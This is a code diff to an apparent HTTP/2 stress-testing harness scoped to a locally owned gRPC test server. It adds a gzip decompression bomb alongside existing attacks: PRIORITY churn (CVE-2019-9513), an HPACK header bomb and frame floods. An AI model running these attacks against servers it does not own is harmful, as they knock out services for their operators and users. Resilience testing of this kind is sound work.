@@ -3,6 +3,7 @@
 They are for a server of grpc.testing.TestService on 127.0.0.1 that the caller owns, and for nothing else.
 """
 
+import gzip
 import socket
 import time
 from typing import Callable, NamedTuple
@@ -147,6 +148,25 @@ def header_bomb(index):
     return frame(HEADERS, END_HEADERS | END_STREAM, odd(index), start + b"\xbe" * 12_000)
 
 
+def expanding(port, pace):
+    """Messages of 64 MB that are 64 KB on the wire."""
+    packed = gzip.compress(response_of(1)[5:] + bytes(64 << 20), mtime=0)
+    body = b"\x01" + number(len(packed)) + packed
+    headers = request(TEST_SERVICE + "UnaryCall", ("grpc-encoding", "gzip"))
+    pieces = [body[start:start + 16384] for start in range(0, len(body), 16384)]
+    with Connection(port) as connection:
+        # Before the server's SETTINGS are acknowledged, its window is as small as one body.
+        connection.ping()
+        for index in range(pace.frames):
+            stream = odd(index)
+            data = [frame(DATA, 0, stream, piece) for piece in pieces]
+            connection.send(call(stream, headers) + b"".join(data) + frame(DATA, END_STREAM, stream), count=1)
+            # One after the other: together they would not fit into the connection's window.
+            if not connection.wait(lambda: connection.is_over(stream), 10):
+                break
+        return connection.end(0)
+
+
 def churn(index):
     """CVE-2019-9513: the tree of priorities is built anew with each frame."""
     stream = odd(index % 1000)
@@ -271,6 +291,7 @@ ATTACKS = {
         flooding(lambda _: frame(DATA, 0, 1), before=call(1, HANG)), 10_000, batch=100),
     "priority": Attack("PRIORITY churn (CVE-2019-9513)", churning, 20_000, ANY, batch=100),
     "header-bomb": Attack("HPACK bomb, 12,000 references to 4 KB", flooding(header_bomb), 50, handlers=0),
+    "gzip-bomb": Attack("messages of 64 MB in 64 KB of gzip", expanding, 20, ANY, handlers=20),
     "unknown-frames": Attack("frames of an unknown type", flooding(lambda _: frame(0xEE, payload=bytes(8))), 10_000, batch=100),
     "window-shut": Attack("zero window, 400 streams, SETTINGS not acknowledged", window_shut, 400, CLOSED, lasts=10),
     "settings-unacknowledged": Attack(
